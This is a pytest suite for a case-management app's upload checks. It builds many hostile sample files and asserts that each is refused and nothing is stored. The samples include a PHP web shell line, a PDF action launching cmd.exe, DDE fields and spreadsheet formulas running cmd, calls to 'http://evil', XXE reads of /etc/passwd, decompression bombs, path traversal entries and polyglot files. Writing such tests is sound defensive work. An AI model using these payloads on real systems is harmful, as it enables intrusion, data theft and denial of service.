"""A file that is not what it says, or does more than be read, is refused and leaves no trace."""

import io
import re
import struct
import zipfile
import zlib

import pikepdf
import pytest
from PIL import Image

from lawgov.casework.models import Attachment

from ..api.conftest import stored
from . import samples
from .conftest import attach, upload
from .samples import GOOD, JPEG, MP3, PNG, WEBM, box, document, film, packed, pdf, workbook

pytestmark = pytest.mark.django_db

DOCX, XLSX = document(), workbook()
ZIP = packed({"a.txt": b"a"})
HTML = b"<!DOCTYPE html><html><script>alert(1)</script></html>"
EXE = b"MZ\x90\x00" + bytes(200)
BOMB = "<a>" + "0" * 30_000_000 + "</a>"


def chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def flood(width: int, height: int) -> bytes:
    """A picture that says it is that large and holds a line of it."""
    head = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
    body = chunk(b"IDAT", zlib.compress(bytes(1000)))
    return PNG[:8] + head + body + chunk(b"IEND", b"")


def changed(base: bytes, part: str, old: str, new: str) -> bytes:
    text = samples.unpacked(base)[part].decode()
    assert old in text
    return packed({part: text.replace(old, new, 1).encode()}, base)


def word(inside: str) -> bytes:
    return changed(DOCX, "word/document.xml", "<w:body>", f"<w:body>{inside}")


def related(base: bytes, part: str, kind: str, target: str) -> bytes:
    """One more relationship, to something outside."""
    stem = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    more = f'<Relationship Id="x9" Type="{stem}/{kind}" Target="{target}" TargetMode="External"/>'
    return changed(base, part, "</Relationships>", f"{more}</Relationships>")


def typed(base: bytes, part: str, declaration: str) -> bytes:
    """A part with a document type before its root."""
    text = samples.unpacked(base)[part].decode()
    head, mark, body = text.rpartition("?>")
    return packed({part: f"{head}{mark}{declaration}{body}".encode()}, base)


def flagged(body: bytes, offset: int, bits: int) -> bytes:
    """Every entry with these bits set in its flags (a password) or attributes (a link)."""
    out = bytearray(body)
    for found in re.finditer(b"PK\x01\x02", body):
        out[found.start() + offset] |= bits
    return bytes(out)


def linked(base: bytes) -> bytes:
    out = io.BytesIO(base)
    with zipfile.ZipFile(out, "a") as made:
        entry = zipfile.ZipInfo("word/media/x.png")
        entry.external_attr = 0o120777 << 16
        made.writestr(entry, "/etc/passwd")
    return out.getvalue()


def action(**entries) -> pikepdf.Dictionary:
    return pikepdf.Dictionary({f"/{name}": value for name, value in entries.items()})


def opens_with(**entries):
    def spoil(book: pikepdf.Pdf) -> None:
        book.Root.OpenAction = action(**entries)

    return spoil


def script(book: pikepdf.Pdf) -> None:
    opens_with(S=pikepdf.Name.JavaScript, JS="app.alert(1)")(book)


def script_on_page(book: pikepdf.Pdf) -> None:
    book.pages[0].AA = action(O=action(S=pikepdf.Name.JavaScript, JS="app.alert(1)"))


def script_by_name(book: pikepdf.Pdf) -> None:
    names = pikepdf.Array(["a", action(S=pikepdf.Name.JavaScript, JS="app.alert(1)")])
    book.Root.Names = action(JavaScript=action(Names=names))


def carries(book: pikepdf.Pdf) -> None:
    book.attachments["a.exe"] = EXE


def form(book: pikepdf.Pdf) -> None:
    book.Root.AcroForm = action(XFA=book.make_stream(b"<xdp/>"))


def deep(book: pikepdf.Pdf) -> None:
    nest = pikepdf.Array()
    for _ in range(300):
        nest = pikepdf.Array([nest])
    book.Root.Nest = nest


def locked() -> bytes:
    return pdf(encryption=pikepdf.Encryption(owner="a", user="b"))


def inflated() -> bytes:
    """A compressed stream of objects that would unpack to two gigabytes."""
    bomb = zlib.compress(zlib.compress(bytes(2_000_000_000 // 1000)))
    head = b"%PDF-1.5\n"
    obj = (
        b"1 0 obj<</Type/ObjStm/N 1/First 4/Filter[/FlateDecode/FlateDecode]/Length "
        + str(len(bomb)).encode() + b">>stream\n" + bomb + b"\nendstream endobj\n"
    )  # fmt: skip
    return head + obj + b"trailer<</Root 2 0 R>>\nstartxref\n0\n%%EOF\n"


HIDDEN = {"object_stream_mode": pikepdf.ObjectStreamMode.generate, "compress_streams": True}
GO = pikepdf.Name
FILES = {
    # Not what the name says.
    "svg with a script": ("a.svg", b"<svg onload='alert(1)'/>"),
    "html as jpg": ("a.jpg", HTML),
    "html as pdf": ("a.pdf", HTML),
    "gif as png": ("a.png", b"GIF89a" + bytes(50)),
    "php as jpg": ("a.jpg", b"<?php system($_GET[0]);"),
    "python": ("a.py", b"import os"),
    "a program": ("a.exe", EXE),
    "a program as pdf": ("a.pdf", EXE),
    "a program as docx": ("a.docx", EXE),
    "a program as mp4": ("a.mp4", EXE),
    "a program behind two endings": ("a.jpg.exe", EXE),
    "a program as text": ("a.txt", EXE),
    "jpg as png": ("a.png", JPEG),
    "png as jpg": ("a.jpg", PNG),
    "heic as mp4": ("a.mp4", GOOD["heic"]),
    "mp4 as heic": ("a.heic", film()),
    "xlsx as docx": ("a.docx", XLSX),
    "a plain archive as docx": ("a.docx", ZIP),
    "old word": ("a.doc", b"\xd0\xcf\x11\xe0" + bytes(600)),
    "docx with a password": ("a.docx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)),
    "no ending": ("png", PNG),
    "only an ending": (".png", PNG),
    "declared as html": ("a.png", PNG, "text/html"),
    "declared as another picture": ("a.png", PNG, "image/jpeg"),
    "an empty file": ("a.png", b""),
    # Pictures.
    "a gif that is a script too": ("a.jpg", b"GIF89a/*" + bytes(20) + b"*/=1;alert(1)"),
    "jpg with an archive after it": ("a.jpg", JPEG + ZIP),
    "jpg with html after it": ("a.jpg", JPEG + HTML),
    "png with a program after it": ("a.png", PNG + EXE),
    "png with html before it": ("a.png", HTML + PNG),
    "jpg with a second one and html": ("a.jpg", JPEG + JPEG + HTML),
    "jpg with a film cut short": ("a.jpg", JPEG + film()[:-4]),
    "jpg cut in half": ("a.jpg", samples.jpeg(size=(640, 480))[:900]),
    "png cut short": ("a.png", PNG[:-20]),
    "a head without a picture": ("a.png", PNG[:33]),
    "40 thousand by 40 thousand pixels": ("a.png", flood(40_000, 40_000)),
    "65 million pixels": ("a.png", flood(8_100, 8_100)),
    "heic cut short": ("a.heic", GOOD["heic"][:-30]),
    "heic with html after it": ("a.heic", GOOD["heic"] + HTML),
    # PDF.
    "pdf that opens with a script": ("a.pdf", pdf(script)),
    "pdf with a script in a compressed stream": ("a.pdf", pdf(script, **HIDDEN)),
    "pdf with a script on its page": ("a.pdf", pdf(script_on_page, **HIDDEN)),
    "pdf with a script by name": ("a.pdf", pdf(script_by_name)),
    "pdf with a name spelled in hex": ("a.pdf", pdf(script).replace(b"/JS ", b"/#4a#53 ")),
    "pdf that starts a program": ("a.pdf", pdf(opens_with(S=GO.Launch, F="cmd.exe"))),
    "pdf that opens another file": ("a.pdf", pdf(opens_with(S=GO.GoToR, F="\\\\evil\\a.pdf"))),
    "pdf that sends its form": ("a.pdf", pdf(opens_with(S=GO.SubmitForm, F="http://evil"))),
    "pdf with a file inside": ("a.pdf", pdf(carries, **HIDDEN)),
    "pdf with a live form": ("a.pdf", pdf(form)),
    "pdf with a password": ("a.pdf", locked()),
    "pdf nested 300 deep": ("a.pdf", pdf(deep)),
    "pdf with an archive after it": ("a.pdf", pdf() + ZIP),
    "pdf with html after it": ("a.pdf", pdf() + HTML),
    "pdf cut in half": ("a.pdf", pdf()[:300]),
    "pdf of one line": ("a.pdf", b"%PDF-1.7\n%%EOF"),
    "pdf that unpacks to gigabytes": ("a.pdf", inflated()),
    # Containers.
    "42 times itself": ("a.docx", packed({"word/a.xml": BOMB.encode()}, DOCX)),
    "100,000 entries": ("a.docx", packed({f"word/{n}.xml": b"" for n in range(2_000)}, DOCX)),
    "an archive in the archive": ("a.docx", packed({"word/media/a.zip": ZIP}, DOCX)),
    "an archive that is called a picture": ("a.docx", packed({"word/media/a.png": ZIP}, DOCX)),
    "a program that is called a picture": ("a.xlsx", packed({"xl/media/a.png": EXE}, XLSX)),
    "a way out of the archive": ("a.docx", packed({"../../a.xml": b"<a/>"}, DOCX)),
    "an absolute way": ("a.docx", packed({"/etc/cron.d/a.xml": b"<a/>"}, DOCX)),
    "a way out with backslashes": ("a.docx", packed({"..\\a.xml": b"<a/>"}, DOCX)),
    "a symbolic link": ("a.docx", linked(DOCX)),
    "an entry with a password": ("a.docx", flagged(DOCX, 8, 0x1)),
    "a docx with html before it": ("a.docx", HTML + DOCX),
    "a docx with html after it": ("a.docx", DOCX + HTML),
    "a docx cut in half": ("a.docx", DOCX[: len(DOCX) // 2]),
    # Office.
    "macros": ("a.docx", packed({"word/vbaProject.bin": EXE}, DOCX)),
    "docm renamed": ("a.docx", changed(DOCX, "[Content_Types].xml",
        "wordprocessingml.document.main+xml", "ms-word.document.macroEnabled.main+xml")),
    "xlsx with macro sheets": ("a.xlsx", packed({"xl/macrosheets/sheet1.xml": b"<a/>"}, XLSX)),
    "a template from outside": ("a.docx", related(
        DOCX, "word/_rels/document.xml.rels", "attachedTemplate", "http://evil/a.dotm")),
    "a picture from outside": ("a.docx", related(
        DOCX, "word/_rels/document.xml.rels", "image", "\\\\evil\\a.png")),
    "a link that runs": ("a.docx", related(
        DOCX, "word/_rels/document.xml.rels", "hyperlink", "javascript:alert(1)")),
    "a link to a file": ("a.xlsx", related(
        XLSX, "xl/_rels/workbook.xml.rels", "hyperlink", "file:///etc/passwd")),
    "an embedded object": ("a.docx", packed({"word/embeddings/oleObject1.bin": EXE}, DOCX)),
    "a control": ("a.docx", packed({"word/activeX/activeX1.xml": b"<a/>"}, DOCX)),
    "another workbook's data": ("a.xlsx", packed({"xl/externalLinks/l.xml": b"<a/>"}, XLSX)),
    "html inside": ("a.docx", packed({"word/a.html": HTML}, DOCX)),
    "a field that runs": ("a.docx", word(
        r'<w:p><w:r><w:instrText>DDEAUTO c:\\cmd.exe "/k calc"</w:instrText></w:r></w:p>')),
    "a simple field that runs": ("a.docx", word(r'<w:fldSimple w:instr="DDE cmd a"/>')),
    "an entity from outside": ("a.docx", typed(
        DOCX, "word/document.xml", '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>')),
    "a billion laughs": ("a.xlsx", typed(
        XLSX, "xl/workbook.xml",
        '<!DOCTYPE a [<!ENTITY b "ha"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]>')),
    "broken xml": ("a.docx", packed({"word/document.xml": b"<a><b></a>"}, DOCX)),
    "a formula that runs": ("a.xlsx", changed(
        XLSX, "xl/worksheets/sheet1.xml", "</c>", "</c><c r=\"C1\"><f>cmd|' /C calc'!A0</f></c>")),
    "a formula that fetches": ("a.xlsx", changed(
        XLSX, "xl/worksheets/sheet1.xml", "</c>",
        "</c><c r=\"C1\"><f>_xlfn.WEBSERVICE(\"http://evil\")</f></c>")),
    # Texts, sound and film.
    "text in no encoding": ("a.txt", b"\xff\xfe\xfa\x80\x81\xff" * 9),
    "text with controls": ("a.txt", b"a\x1b]0;evil\x07b"),
    "pdf as text": ("a.txt", pdf()),
    "mp3 that is only a tag": ("a.mp3", MP3[:20]),
    "html as mp3": ("a.mp3", HTML),
    "mp3 with an archive after it": ("a.mp3", MP3 + ZIP),
    "mp4 without a film": ("a.mp4", box(b"ftyp", b"isom" + bytes(8))),
    "mp4 with a box larger than the file": ("a.mp4", film()[:-2]),
    "mp4 with an archive after it": ("a.mp4", film() + ZIP),
    "a million boxes": ("a.mp4", film() + box(b"free") * 200_000),
    "wav that says it is longer": ("a.wav", GOOD["wav"][:-100]),
    "wav with an archive after it": ("a.wav", GOOD["wav"] + ZIP),
    "matroska as webm": ("a.webm", WEBM.replace(b"\x84webm", b"\x84mkv_")),
    "webm with an archive after it": ("a.webm", WEBM + ZIP),
}  # fmt: skip


@pytest.mark.parametrize("name", FILES)
def test_a_hostile_file_is_refused_with_its_reason(mediator, case, media, name):
    before = stored()

    answer = attach(mediator, case, upload(*FILES[name]))

    assert answer.status_code == 400, answer.content[:200]
    assert set(answer.json()["errors"]) == {"file"}
    assert re.search(r"[\u4e00-\u9fff]{2}", answer.json()["errors"]["file"][0])
    assert stored() == before
    assert list(media.rglob("*")) == []


REASONS = {
    "macros": "含有宏", "a template from outside": "引用了文件之外的内容",
    "an entity from outside": "DOCTYPE", "42 times itself": "压缩炸弹",
    "a symbolic link": "符号链接", "an entry with a password": "加密",
    "pdf with a script in a compressed stream": "含有脚本", "pdf with a password": "加密",
    "65 million pixels": "4000万", "jpg with html after it": "附带其他数据",
    "jpg cut in half": "损坏或不完整", "declared as html": "声明的类型", "a program": "只收",
}  # fmt: skip


@pytest.mark.parametrize("name", REASONS)
def test_the_reason_is_the_one_that_applies(mediator, case, media, name):
    answer = attach(mediator, case, upload(*FILES[name]))

    assert REASONS[name] in answer.json()["errors"]["file"][0]


@pytest.mark.parametrize("ending", GOOD)
def test_a_good_file_of_each_kind_is_taken(mediator, case, media, ending):
    answer = attach(mediator, case, upload(f"好文件.{ending}", GOOD[ending]))

    assert answer.status_code == 200, answer.content.decode()
    row = Attachment.objects.get()
    assert (row.size, row.name) == (len(GOOD[ending]), f"好文件.{ending}")
    assert bool(row.preview) == (ending in ("jpg", "png", "heic"))


@pytest.mark.parametrize(
    "more", [JPEG, b"\0" * 512 + JPEG, film(), JPEG + film()], ids=["hdr", "filled", "film", "both"]
)
def test_what_a_telephone_adds_to_its_photo_is_taken_along(mediator, case, media, more):
    answer = attach(mediator, case, upload("照片.jpg", JPEG + more))

    assert answer.status_code == 200
    assert Attachment.objects.get().size == len(JPEG + more)


def test_a_good_file_is_taken_after_every_bad_one(mediator, case, media):
    for name in ("pdf that unpacks to gigabytes", "65 million pixels", "42 times itself"):
        assert attach(mediator, case, upload(*FILES[name])).status_code == 400

    assert attach(mediator, case, upload("a.png", PNG)).status_code == 200


def test_script_in_the_comment_of_a_photo_does_not_reach_its_preview(mediator, case, media):
    body = samples.jpeg(comment=HTML, exif=exif())

    assert attach(mediator, case, upload("a.jpg", body)).status_code == 200

    preview = (media / Attachment.objects.get().preview).read_bytes()
    assert HTML not in preview
    assert b"SECRET" not in preview
    with Image.open(io.BytesIO(preview)) as picture:
        assert not picture.getexif()


def exif() -> Image.Exif:
    found = Image.Exif()
    found[0x010E] = "SECRET place"
    found[0x0112] = 6
    return found


def test_a_photo_taken_upright_is_shown_upright_and_not_larger_than_a_screen(mediator, case, media):
    body = samples.jpeg(size=(4000, 3000), exif=exif())

    attach(mediator, case, upload("a.jpg", body))

    with Image.open(media / Attachment.objects.get().preview) as picture:
        assert picture.size == (1200, 1600)


def test_zeros_that_a_camera_leaves_after_a_photo_are_no_fault(mediator, case, media):
    assert attach(mediator, case, upload("a.jpg", JPEG + bytes(512))).status_code == 200
